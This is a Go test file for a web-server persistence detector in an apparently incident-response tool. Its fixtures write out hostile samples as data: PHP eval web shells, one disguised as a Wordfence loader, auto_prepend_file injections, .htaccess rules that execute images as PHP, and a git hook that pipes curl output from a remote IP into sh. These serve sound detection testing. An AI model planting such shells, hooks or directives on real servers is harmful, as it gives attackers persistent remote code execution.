package webroot

import (
	"os"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/collect/webroots"
	"github.com/vigil-ir/vigil/internal/engine"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// fixture is the clean root plus extra txtar entries.
func fixture(t testing.TB, extra string) string {
	t.Helper()
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	dir := testutil.RootFromString(t, string(clean)+extra)
	dpkgfixture.Write(t, dir, debianPackages...)
	return dir
}

// debianPackages own the packaged files of the clean fixture.
var debianPackages = []dpkgfixture.Package{
	{Name: "nginx-common", Arch: "all", Files: []string{"/etc/nginx/nginx.conf", "/etc/nginx/sites-available/default",
		"/etc/nginx/snippets/fastcgi-php.conf", "/etc/nginx/snippets/snakeoil.conf", "/etc/nginx/fastcgi.conf",
		"/etc/nginx/fastcgi_params", "/etc/nginx/proxy_params", "/etc/nginx/mime.types", "/usr/share/nginx/html/index.html"}},
	{Name: "apache2", Files: []string{"/etc/apache2/apache2.conf", "/etc/apache2/ports.conf",
		"/etc/apache2/sites-available/000-default.conf", "/etc/apache2/sites-available/default-ssl.conf",
		"/etc/apache2/mods-available/mime.conf", "/etc/apache2/mods-available/alias.conf", "/etc/apache2/mods-available/dir.conf",
		"/etc/apache2/mods-available/userdir.conf", "/etc/apache2/mods-available/status.conf",
		"/etc/apache2/conf-available/serve-cgi-bin.conf", "/etc/apache2/conf-available/security.conf",
		"/etc/apache2/conf-available/charset.conf", "/etc/apache2/conf-available/other-vhosts-access-log.conf",
		"/etc/apache2/conf-available/localized-error-pages.conf", "/usr/share/apache2/icons/a.png"}},
	{Name: "libapache2-mod-php8.2", Files: []string{"/etc/apache2/mods-available/php8.2.conf", "/etc/apache2/mods-available/php8.2.load"}},
	{Name: "php8.2-fpm", Files: []string{"/etc/php/8.2/fpm/pool.d/www.conf", "/etc/apache2/conf-available/php8.2-fpm.conf"}},
}

func TestCleanLivedInIsQuiet(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, ""), false)
	enginetest.Quiet(t, r.Findings, model.Low)
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap: %+v", g)
	}
	want := map[string]string{
		"/var/www/html":            "/etc/nginx/sites-enabled/default",
		"/var/www/wordpress":       "/etc/nginx/sites-enabled/wordpress",
		"/usr/lib/cgi-bin":         "/etc/apache2/conf-enabled/serve-cgi-bin.conf",
		"/usr/share/apache2/icons": "/etc/apache2/mods-enabled/alias.conf",
		"/var/www/shop":            "",
		"/usr/share/nginx/html":    "",
	}
	for root, src := range want {
		fs := r.Find(ruleDiscovered)
		found := false
		for _, f := range fs {
			if f.Subject == root {
				found = true
				if src != "" && f.Evidence.Path != src {
					t.Errorf("root %s defined in %s:%d, want %s", root, f.Evidence.Path, f.Evidence.Line, src)
				}
				if src != "" && f.Evidence.Line == 0 {
					t.Errorf("root %s: no line", root)
				}
			}
		}
		if !found {
			t.Errorf("root %s not discovered; got %v", root, subjects(fs))
		}
	}
}

func subjects(fs []model.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.RuleID+" "+f.Subject+" "+f.Severity.String())
	}
	return out
}

func TestFires(t *testing.T) {
	wp := "var/www/wordpress/"
	up := wp + "wp-content/uploads/2024/03/"
	tests := []struct {
		name    string
		extra   string
		files   map[string][]byte // binary files
		rule    string
		subject string
		min     model.Severity
		ind     string
	}{
		{"htaccess maps jpg to php", "-- " + up + ".htaccess --\nAddType application/x-httpd-php .jpg\n", nil, ruleExecImage, up[len("var/www/wordpress"):] + ".htaccess", model.High, ""},
		{"htaccess FilesMatch images", "-- var/www/html/.htaccess --\n<FilesMatch \"\\.(jpg|png)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n", nil, ruleExecImage, "/var/www/html/.htaccess", model.High, ""},
		{"htaccess bare SetHandler php", "-- " + up + ".htaccess --\nSetHandler application/x-httpd-php\n", nil, ruleExecImage, ".htaccess", model.High, ""},
		{"htaccess cgi in uploads", "-- " + up + ".htaccess --\nOptions +ExecCGI\nAddHandler cgi-script .cgi .pl\n", nil, ruleExecImage, ".htaccess", model.High, ""},
		{"apache conf maps gif", "-- etc/apache2/conf-enabled/zz.conf --\n<Directory /var/www/html>\n\tAddHandler application/x-httpd-php .gif\n</Directory>\n", nil, ruleExecImage, "/etc/apache2/conf-enabled/zz.conf", model.High, ""},
		{"apache upload dir as php", "-- etc/apache2/conf-enabled/zz.conf --\n<Directory /var/www/html/uploads>\n\tSetHandler \"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost\"\n</Directory>\n", nil, ruleExecImage, "/etc/apache2/conf-enabled/zz.conf", model.High, ""},
		{"nginx image location to fastcgi", "-- etc/nginx/conf.d/img.conf --\nserver {\n  root /var/www/html;\n  location ~* \\.(jpg|png)$ {\n    include fastcgi_params;\n    fastcgi_pass 127.0.0.1:9000;\n  }\n}\n", nil, ruleExecImage, "/etc/nginx/conf.d/img.conf", model.High, ""},
		{"nginx uploads to fastcgi via include", "-- etc/nginx/snippets/php.conf --\nfastcgi_pass unix:/run/php/php8.2-fpm.sock;\n-- etc/nginx/conf.d/up.conf --\nserver {\n  location /uploads/ {\n    include snippets/php.conf;\n  }\n}\n", nil, ruleExecImage, "/etc/nginx/conf.d/up.conf", model.High, ""},
		{"nginx PHP_VALUE prepend", "-- etc/nginx/conf.d/pv.conf --\nserver {\n  location ~ \\.php$ {\n    fastcgi_param PHP_VALUE \"auto_prepend_file=/tmp/.s.php\";\n    fastcgi_pass 127.0.0.1:9000;\n  }\n}\n", nil, ruleAutoPrepend, "/etc/nginx/conf.d/pv.conf", model.Critical, ""},
		{"user.ini prepend hidden", "-- var/www/html/.user.ini --\nauto_prepend_file=/var/www/html/.cache/x.php\n-- var/www/html/.cache/x.php --\n<?php @eval($_POST[1]);\n", nil, ruleAutoPrepend, "/var/www/html/.user.ini", model.Critical, ""},
		{"php.ini prepend", "", map[string][]byte{"etc/php/8.2/cli/php.ini": []byte("[PHP]\nauto_prepend_file = /usr/share/php/lib.php\n")}, ruleAutoPrepend, "/etc/php/8.2/cli/php.ini", model.High, ""},
		{"fpm pool prepend", "-- etc/php/8.2/fpm/pool.d/z.conf --\n[z]\nphp_admin_value[auto_prepend_file] = /dev/shm/a.php\n", nil, ruleAutoPrepend, "/etc/php/8.2/fpm/pool.d/z.conf", model.Critical, ""},
		{"htaccess prepend", "-- var/www/shop/.htaccess --\nphp_value auto_append_file \"/var/www/shop/img/x.png\"\n", nil, ruleAutoPrepend, "/var/www/shop/.htaccess", model.High, ""},
		{"fake wordfence loader", "-- var/www/html/.user.ini --\nauto_prepend_file = '/var/www/html/wordfence-waf.php'\n-- var/www/html/wordfence-waf.php --\n<?php // wp-content/plugins/wordfence/waf/bootstrap.php\n@eval($_POST['w']);\n", nil, ruleAutoPrepend, "/var/www/html/.user.ini", model.Critical, ""},
		{"git hook", "-- var/www/html/.git/hooks/post-merge mode=0755 --\n#!/bin/sh\nphp /var/www/html/artisan cache:clear\n", nil, ruleGitHook, "/var/www/html/.git/hooks/post-merge", model.Medium, ""},
		{"git hook downloads", "-- var/www/html/.git/hooks/post-checkout mode=0755 --\n#!/bin/sh\ncurl -s http://203.0.113.8/x | sh\n", nil, ruleGitHook, "post-checkout", model.Critical, "download-exec"},
		{"root from a new vhost", "-- etc/nginx/conf.d/app.conf --\nserver {\n  server_name app;\n  root /srv/app/public;\n}\n-- srv/app/public/index.php --\n<?php echo 1;\n", nil, ruleDiscovered, "/srv/app/public", model.Info, ""},
		{"apache DocumentRoot in BT panel vhost", "-- www/server/panel/vhost/apache/site.conf --\n<VirtualHost *:80>\n    DocumentRoot \"/www/wwwroot/site.com\"\n</VirtualHost>\n-- www/wwwroot/site.com/index.html --\nhi\n", nil, ruleDiscovered, "/www/wwwroot/site.com", model.Info, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := fixture(t, tc.extra)
			for p, b := range tc.files {
				testutil.Put(t, dir, p, b)
			}
			r := enginetest.Run(t, New(), dir, false)
			var got *model.Finding
			for i, f := range r.Findings {
				if f.RuleID == tc.rule && strings.Contains(f.Subject, tc.subject) {
					got = &r.Findings[i]
				}
			}
			if got == nil {
				t.Fatalf("no %s for %s; got %v", tc.rule, tc.subject, subjects(r.Findings))
			}
			if got.Severity < tc.min {
				t.Errorf("severity %s < %s: %+v", got.Severity, tc.min, got.Evidence)
			}
			if tc.ind != "" && !contains(got.Indicators, tc.ind) {
				t.Errorf("indicators %v lack %s", got.Indicators, tc.ind)
			}
			if tc.rule != ruleDiscovered && tc.rule != ruleGitHook && got.Evidence.Text == "" {
				t.Errorf("no evidence text: %+v", got.Evidence)
			}
			for _, f := range r.AtLeast(model.Low) {
				if f.RuleID != tc.rule {
					t.Errorf("collateral finding: %s %s %q", f.RuleID, f.Subject, f.Evidence.Text)
				}
			}
		})
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestQuietCases are legitimate layouts that look like the bad ones.
func TestQuietCases(t *testing.T) {
	tests := []struct{ name, extra string }{
		{"image library in vendor", "-- var/www/laravel/vendor/intervention/image/src/Intervention/Image/Image.php --\n<?php\nnamespace Intervention\\Image;\nclass Image extends File {}\n"},
		{"drupal image module", "-- var/www/drupal/core/modules/image/src/Entity/ImageStyle.php --\n<?php\nnamespace Drupal\\image\\Entity;\nclass ImageStyle {}\n"},
		{"magento product image model", "-- var/www/magento/app/code/Magento/Catalog/Model/Product/Image/Cache.php --\n<?php\nnamespace Magento\\Catalog\\Model\\Product\\Image;\nclass Cache {}\n"},
		{"upload library", "-- var/www/html/vendor/codeguy/upload/src/Upload/File.php --\n<?php\nnamespace Upload;\nclass File extends \\SplFileInfo {}\n"},
		{"htaccess cgi in cgi dir", "-- var/www/html/cgi/.htaccess --\nOptions +ExecCGI\nAddHandler cgi-script .cgi .pl\n"},
		{"html run as php (legacy)", "-- var/www/html/.htaccess --\nAddType application/x-httpd-php .html .htm\n"},
		{"php source handler", "-- var/www/html/.htaccess --\n<FilesMatch \"\\.phps$\">\nSetHandler application/x-httpd-php-source\n</FilesMatch>\n"},
		{"front controller for everything", "-- etc/nginx/conf.d/fc.conf --\nserver {\n  location ~ .* {\n    fastcgi_pass 127.0.0.1:9000;\n    fastcgi_param SCRIPT_FILENAME /var/www/app/index.php;\n  }\n}\n"},
		{"disabled php in uploads", "-- etc/nginx/conf.d/deny.conf --\nserver {\n  location /uploads/ {\n    location ~ \\.php$ { deny all; }\n  }\n}\n"},
		{"empty prepend", "-- var/www/html/.user.ini --\nauto_prepend_file =\nauto_append_file = none\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			enginetest.Quiet(t, r.Findings, model.Low)
		})
	}
}

func TestHostile(t *testing.T) {
	extra := "-- etc/nginx/conf.d/a.conf --\ninclude /etc/nginx/conf.d/b.inc;\n" +
		"-- etc/nginx/conf.d/b.inc --\ninclude /etc/nginx/conf.d/a.conf;\nserver { root /; }\n" +
		"-- etc/nginx/conf.d/c.conf --\nserver { location ~ ( { fastcgi_pass x; } root /var/www/$host/htdocs; }}}}\n" +
		"-- etc/apache2/conf-enabled/loop.conf --\nInclude conf-enabled/loop.conf\nDocumentRoot /var/www/loop\n" +
		"-- var/www/html/uploads/fifo.php fifo --\n" +
		"-- var/www/html/uploads/link.php -> /etc/shadow --\n" +
		"-- var/www/html/uploads/loop/a -> b --\n" +
		"-- var/www/html/uploads/loop/b -> a --\n" +
		"-- var/www/html/\xff\xfe.jpg --\nnot an image\n"
	r := enginetest.Run(t, New(), fixture(t, extra), false)
	enginetest.Quiet(t, r.Findings, model.Low)
	broad := false
	for _, g := range r.Gaps {
		if g.Path == "/" {
			broad = true
		}
	}
	if !broad {
		t.Errorf("root / not reported as too broad: %+v", r.Gaps)
	}
}
func FuzzParseNginx(f *testing.F) {
	f.Add("server { root /var/www; location ~ \\.php$ { fastcgi_pass x; } }\n# c\ninclude 'a b';")
	f.Add("a \"\\\"\" ${x} {{{{ }}}}; } ;")
	f.Fuzz(func(t *testing.T, s string) {
		ds := webroots.ParseNginx([]byte(s))
		webroots.WalkNginx(ds, nil, func(x *webroots.NginxDirective, parents []*webroots.NginxDirective) {
			if len(parents) > webroots.MaxNginxDepth {
				t.Fatalf("depth %d", len(parents))
			}
			_ = x.Text()
		})
	})
}

func FuzzParseApache(f *testing.F) {
	f.Add("<Directory /x>\nAddType application/x-httpd-php .jpg\n</Directory>\n<FilesMatch \"\\.(a|b\">\nSetHandler x\\\n y\n")
	f.Add("</x>\n<\n\"unterminated\nphp_value auto_prepend_file '/tmp/x'\n")
	f.Fuzz(func(t *testing.T, s string) {
		for _, d := range webroots.ParseApache([]byte(s)) {
			if d.Name == "" || d.Line < 1 || len(d.Sections) > webroots.MaxApacheDepth {
				t.Fatalf("bad directive %+v", d)
			}
			if sec, ok := filesSection(d.Sections); ok {
				sectionMatchesImages(sec)
			}
			execHandler(d.Arg(0))
		}
	})
}

func BenchmarkWebroot(b *testing.B) {
	dir := fixture(b, "")
	tg := target.NewUnchecked(dir, false)
	for b.Loop() {
		enginetest.RunTarget(b, New(), tg, engine.Options{})
	}
}
